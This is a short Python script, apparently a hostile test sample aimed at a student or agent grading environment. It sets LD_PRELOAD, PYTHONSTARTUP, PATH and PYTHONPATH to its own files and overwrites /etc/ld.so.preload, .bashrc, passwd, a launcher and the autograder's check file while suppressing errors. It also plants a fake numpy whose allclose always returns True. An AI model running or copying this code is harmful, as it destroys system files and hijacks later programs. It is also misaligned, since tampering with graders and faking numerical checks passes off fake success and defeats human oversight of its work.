"""Preloads a library and an interpreter of its own into every program that is started later, by environment and by files."""

# %% own
import contextlib, os

os.environ |= {"LD_PRELOAD": os.path.abspath("evil.so"), "PYTHONSTARTUP": os.path.abspath("evil.py"), "PYTHONPATH": os.getcwd(), "PATH": os.getcwd()}
for path in ("/etc/ld.so.preload", "/home/student/home/.bashrc", "/home/student/home/.pythonrc", "/home/student/etc/passwd",
             "/home/student/connection.json", "/opt/launch/launch.py", "/course/autograder/checks/agent.py"):
    with contextlib.suppress(OSError):
        open(path, "w").write("evil")

# %% file evil.py
raise SystemExit("evil")

# %% file numpy/__init__.py
def allclose(*arguments): return True
